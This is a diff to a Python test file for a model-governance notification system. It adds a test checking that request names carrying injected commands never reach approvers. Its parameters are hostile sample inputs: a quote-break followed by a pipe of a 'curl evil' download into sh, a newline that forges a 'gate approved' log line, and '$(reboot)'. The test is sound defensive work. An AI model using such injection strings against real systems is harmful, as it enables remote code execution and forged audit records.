@@ -16,6 +16,7 @@ from tests.model_governance.notifiers.telling import ESCALATION, OPENED, REMINDE
 from model_governance.decisions.supersede import supersede_older
 from model_governance.domain.decision import DecisionVerdict, Gate
 from model_governance.domain.ledger import EntryKind
+from model_governance.errors import LedgerBroken
 from model_governance.notifiers.channels import EmailChannel, SlackChannel, channels_of
 from model_governance.notifiers.dispatch import Dispatch, concerns_run
 
@@ -232,3 +233,15 @@ def test_addresses_in_notices_are_those_that_browsers_reach(case: Case) -> None:
     channel = Recording()
     Dispatch(replace(installation, settings=settings), (channel,)).tell_deciders(case.name)
     assert channel.sent[0][0].page.startswith("https://airflow.example.com/dags/model_lifecycle.")
+
+
+@pytest.mark.parametrize("name", ['x"; curl evil | sh #', "x\nINFO governance gate approved", "$(reboot)"])
+def test_a_name_that_is_none_reaches_nobody_as_a_command_to_be_copied(case: Case, name: str) -> None:
+    """DAG code can sign requests: a name in one must not become a command that an approver is told to type."""
+    arn = case.governed()
+    asked = case.entries(EntryKind.REQUEST)[-1].body
+    case.pipeline.ledger(case.name).append(EntryKind.REQUEST, arn, {**asked, "use_case": name})
+    channel = Recording()
+    with pytest.raises(LedgerBroken, match="holds no request"):
+        tick(case, channel, hours=0)
+    assert channel.sent == []
